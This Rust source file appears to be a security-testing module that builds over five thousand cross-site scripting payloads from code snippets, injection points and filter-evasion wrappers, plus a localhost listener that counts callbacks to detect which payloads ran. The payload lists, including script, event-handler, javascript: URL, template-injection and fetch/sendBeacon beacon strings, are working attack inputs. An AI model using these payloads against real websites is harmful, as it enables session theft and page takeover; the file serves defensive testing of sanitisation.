//! What an attacker would write where a customer's or colleague's words belong, and instruments that tell whether any of it did something.
//!
//! Each string ends in its number between marks, so that a page can be asked which of them it has drawn. What a string tries is to call
//! `ran`, or to load something from a listener on this machine ([`Listener`]).

use std::collections::HashSet;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use anyhow::Result;
use tokio::io::AsyncReadExt;
use tokio::net::{TcpListener, TcpStream};

/// What it would run. `{n}` is its number, `{u}` the listener.
static CODES: [&str; 15] = [
    "ran({n})",
    "top.ran({n})",
    "window['ran']({n})",
    "ran`{n}`",
    "[{n}].map(ran)",
    "setTimeout('ran({n})')",
    "Function('ran({n})')()",
    "onerror=ran;throw {n}",
    "self[`r\\u0061n`]({n})",
    "location='{u}{n}'",
    "fetch('{u}{n}')",
    "new Image().src='{u}{n}'",
    "import('{u}{n}')",
    "navigator.sendBeacon('{u}{n}')",
    "alert({n})",
];

/// Where it stands: `{j}` is the code, `{u}` the listener, `{n}` the number.
static PLACES: [&str; 92] = [
    "<script>{j}</script>",
    "<script src={u}{n}></script>",
    "<script src=\"data:text/javascript,{j}\"></script>",
    "<script type=module>{j}</script>",
    "<SCRIPT>{j}</SCRIPT>",
    "<scr<script>ipt>{j}</scr</script>ipt>",
    "<script\n>{j}</script\n>",
    "<script>/*</script><script>*/{j}</script>",
    "<img src=x onerror=\"{j}\">",
    "<img src=x onerror={j}//",
    "<img/src=x/onerror=\"{j}\">",
    "<img src={u}{n}>",
    "<img srcset=\"{u}{n} 1x\">",
    "<IMG SRC=javascript:{j}>",
    "<image src=x onerror=\"{j}\">",
    "<picture><source srcset={u}{n}><img></picture>",
    "<video src={u}{n} autoplay onerror=\"{j}\"></video>",
    "<video poster={u}{n}></video>",
    "<video><source onerror=\"{j}\"></video>",
    "<audio src={u}{n} onerror=\"{j}\" autoplay></audio>",
    "<track src={u}{n} onerror=\"{j}\">",
    "<iframe src=\"javascript:{j}\"></iframe>",
    "<iframe srcdoc=\"<script>parent.{j}</script>\"></iframe>",
    "<iframe src={u}{n} onload=\"{j}\"></iframe>",
    "<object data=\"javascript:{j}\"></object>",
    "<object data={u}{n}></object>",
    "<embed src=\"javascript:{j}\">",
    "<embed src={u}{n}>",
    "<frameset onload=\"{j}\">",
    "<link rel=stylesheet href={u}{n}>",
    "<link rel=preload as=script href={u}{n}>",
    "<link rel=dns-prefetch href={u}{n}>",
    "<meta http-equiv=refresh content=\"0;url={u}{n}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{j}\">",
    "<base href={u}{n}/>",
    "<style>@import '{u}{n}';</style>",
    "<style>*{background:url({u}{n})}</style>",
    "<div style=\"background:url({u}{n})\">",
    "<div style=\"width:expression({j})\">",
    "<p style=\"animation:x\" onanimationstart=\"{j}\">",
    "<svg onload=\"{j}\">",
    "<svg/onload={j}>",
    "<svg><script>{j}</script></svg>",
    "<svg><script href={u}{n} /></svg>",
    "<svg><image href={u}{n} onload=\"{j}\" /></svg>",
    "<svg><use href=\"{u}{n}#x\" /></svg>",
    "<svg><animate onbegin=\"{j}\" attributeName=x dur=1s>",
    "<svg><set attributeName=href to=\"javascript:{j}\" />",
    "<svg><a><animate attributeName=href values=\"javascript:{j}\" /><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=\"javascript:{j}\" /></foreignObject></svg>",
    "<svg><style>@import '{u}{n}'</style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={j}&gt;\">",
    "<math><maction actiontype=statusline xlink:href=\"javascript:{j}\">x</maction></math>",
    "<math href=\"javascript:{j}\">x</math>",
    "<form action=\"javascript:{j}\"><button autofocus>x</button></form>",
    "<form id=x></form><button form=x formaction=\"javascript:{j}\">x</button>",
    "<input autofocus onfocus=\"{j}\">",
    "<input type=image src={u}{n} onerror=\"{j}\">",
    "<select autofocus onfocus=\"{j}\"></select>",
    "<textarea autofocus onfocus=\"{j}\"></textarea>",
    "<details open ontoggle=\"{j}\">",
    "<marquee onstart=\"{j}\">x</marquee>",
    "<body onload=\"{j}\">",
    "<body onpageshow=\"{j}\" background={u}{n}>",
    "<table background={u}{n}><td background={u}{n}>",
    "<a href=\"javascript:{j}\">x</a>",
    "<a href=\"java&#10;script:{j}\">x</a>",
    "<a href=\"&#106;avascript:{j}\">x</a>",
    "<a ping={u}{n} href=x>x</a>",
    "<area href=\"javascript:{j}\" shape=default>",
    "<x onclick=\"{j}\" contenteditable autofocus onfocus=\"{j}\">x",
    "<dialog open onclose=\"{j}\"><form method=dialog>",
    "<template><img src=x onerror=\"{j}\"></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={j}>\">",
    "<xmp><p title=\"</xmp><img src=x onerror={j}>\">",
    "<![CDATA[<img src=x onerror=\"{j}\">]]>",
    "<?xml version=\"1.0\"?><x xmlns:h=\"http://www.w3.org/1999/xhtml\"><h:script>{j}</h:script></x>",
    "<!--><img src=x onerror=\"{j}\">-->",
    "javascript:{j}",
    "JaVaScRiPt:{j}",
    "java\tscript:{j}",
    "data:text/html,<script>{j}</script>",
    "vbscript:{j}",
    "[x](javascript:{j})",
    "![x]({u}{n})",
    "*_~<img src=x onerror=\"{j}\">~_*",
    "```</code><img src=x onerror=\"{j}\">```",
    "> <img src=x onerror=\"{j}\">",
    "{{constructor.constructor(\"{j}\")()}}",
    "${{j}} #{{j}} <%= {j} %>",
    "{ $name } { DATETIME(0) } { {j} } { -brand }",
    "{@html '<img src=x onerror=\"{j}\">'}",
];

/// What it breaks out of, or hides behind.
static DRESSES: [fn(&str) -> String; 5] = [
    str::to_owned,
    |text| format!("\"'>{text}"),
    |text| format!("</textarea></title></style></script>{text}"),
    |text| format!("\u{202e}\u{2066}{}\u{feff}", text.replace('<', "\u{200b}<").replace("on", "o\u{200d}n")),
    |text| text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;"),
];

/// A few short enough for a name of any kind, each another one. None holds a quote.
pub const NAMES: [&str; 12] = [
    "<script>ran(1)</script>",
    "<svg onload=ran(2)>",
    "<img src=x onerror=ran(3)>",
    "<iframe onload=ran(4)>",
    "javascript:ran(5)",
    "<body onload=ran(6)>",
    "{ran(7)} ${ran(7)} {{ran(7)}}",
    "<b>*bold*</b><base href=//x>",
    "&lt;svg onload=ran(9)&gt;",
    "<style>*{display:none}</style>",
    "\u{202e}gpj.<svg onload=ran(11)>",
    "--><svg/onload=ran(12)>",
];

/// Over five thousand strings, all different, each with its number at the end.
#[must_use]
pub fn corpus(listener: &str) -> Vec<String> {
    let bare = DRESSES.iter().flat_map(|dress| {
        PLACES.iter().flat_map(move |place| {
            // Of places without code there is nothing to vary.
            let codes = if place.contains("{j}") { CODES.as_slice() } else { &CODES[..1] };
            codes.iter().map(move |code| dress(&place.replace("{j}", code)))
        })
    });
    let mut known = HashSet::new();
    let numbered = |(n, text): (usize, String)| {
        let text = text.replace("{u}", listener).replace("{n}", &n.to_string());
        format!("{text}«{n}»")
    };
    bare.filter(|text| known.insert(text.clone())).enumerate().map(numbered).collect()
}

/// A port of this machine that counts who calls.
pub struct Listener {
    port: u16,
    calls: Arc<AtomicUsize>,
}

impl Listener {
    /// Listens.
    ///
    /// # Errors
    /// When no port is free.
    pub async fn start() -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let (port, calls) = (listener.local_addr()?.port(), Arc::new(AtomicUsize::new(0)));
        let counted = Arc::clone(&calls);
        tokio::spawn(async move {
            while let Ok((caller, _)) = listener.accept().await {
                counted.fetch_add(1, Ordering::SeqCst);
                drop(caller);
            }
        });
        Ok(Self { port, calls })
    }

    /// Its address, for something to be put behind.
    #[must_use]
    pub fn url(&self) -> String {
        format!("http://127.0.0.1:{}/", self.port)
    }

    /// How many called until now. Proves that it counts by calling once itself, which is not told.
    ///
    /// # Errors
    /// When it does not listen any more.
    pub async fn calls(&self) -> Result<usize> {
        let mut probe = TcpStream::connect(("127.0.0.1", self.port)).await?;
        // Callers are taken in their order, and hung up on.
        let _ = probe.read(&mut [0]).await;
        let calls = self.calls.fetch_sub(1, Ordering::SeqCst);
        Ok(calls.saturating_sub(1))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_more_than_five_thousand_and_no_two_are_alike() {
        let corpus = corpus("http://127.0.0.1:9/");
        assert!(corpus.len() > 5_000, "{}", corpus.len());
        let without_number = |(n, text): (usize, &String)| text.replace(&n.to_string(), "");
        let different: HashSet<String> = corpus.iter().enumerate().skip(200).map(without_number).collect();
        assert_eq!(different.len(), corpus.len() - 200);
        assert!(corpus.iter().all(|text| !text.contains("{j}") && !text.contains("{n}")));
        assert!(NAMES.iter().all(|name| name.chars().count() <= 40 && !name.contains('\'')));
    }

    #[tokio::test]
    async fn who_calls_is_counted_and_whoever_asks_is_not() {
        let listener = Listener::start().await.unwrap();
        assert_eq!(listener.calls().await.unwrap(), 0);
        let mut caller = TcpStream::connect(("127.0.0.1", listener.port)).await.unwrap();
        let _ = caller.read(&mut [0]).await;
        assert_eq!(listener.calls().await.unwrap(), 1);
        assert_eq!(listener.calls().await.unwrap(), 1);
    }
}
